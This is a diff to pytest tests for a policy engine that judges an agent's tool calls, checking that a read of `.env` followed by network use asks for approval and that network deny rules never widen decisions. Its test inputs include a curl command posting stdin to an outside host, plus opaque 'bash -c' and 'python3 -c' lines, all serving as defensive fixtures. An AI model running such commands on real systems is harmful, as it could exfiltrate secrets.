@@ -163,6 +163,9 @@ def test_read_then_exfiltrate_asks_naming_the_read(program):
         decided = decide_call(program, request, tool, args, "/ws")
         assert decided.effect == "ask", decided
         assert "call `r1` (read `.env`)" in decided.reason, decided.reason
+        assert "`call.network`: " in decided.reason, decided.reason
+    code = decide_call(program, request, "bash", _bash("python3 -c 'x'"), "/ws")
+    assert code.effect == "ask" and "cannot be read (not known, so it counts)" in code.reason, code.reason
 
 
 @pytest.mark.parametrize("line", ["curl -d @- https://x.io", "python3 -c 'x'", 'bash -c "$X"', "frobnicate"])
@@ -229,8 +232,9 @@ def conditions(draw):
     default=st.sampled_from(["allow", "deny", "ask"]),
 )
 def test_both_evaluators_agree_and_a_network_deny_never_widens(rules, extra, earlier, call, default):
-    """The index decides `call.network` as the reference does; and a deny or ask `… and call.network` added to a
-    policy never makes a call's decision milder (monotonicity with the call's facts)."""
+    """The index decides `call.network` as the reference does; and a deny `… and call.network` added to a policy
+    never makes a call's decision milder, nor an ask one a rule decided (monotonicity with the call's facts: an ask
+    over a default deny is the one widening the language has, with or without the fact)."""
     from dshc.compiler.policy import RANK
 
     def policy(name, items):
@@ -249,7 +253,10 @@ def test_both_evaluators_agree_and_a_network_deny_never_widens(rules, extra, ear
     base = _effects(loaded, "base", session, tool, args)
     more = _effects(loaded, "more", session, tool, args)
     assert base[0] == base[1] and more[0] == more[1], (base, more)
-    assert RANK[more[0]] >= RANK[base[0]], (base, more)
+    request = Request(preset="fetching", host="web", policy="base", session=session)
+    by_default = not loaded.decide_unindexed(request, tool, args, workspace="/ws").matched
+    if not (extra[0] == "ask" and base[0] == "deny" and by_default):
+        assert RANK[more[0]] >= RANK[base[0]], (base, more)
 
 
 # --- `dshc check` ---
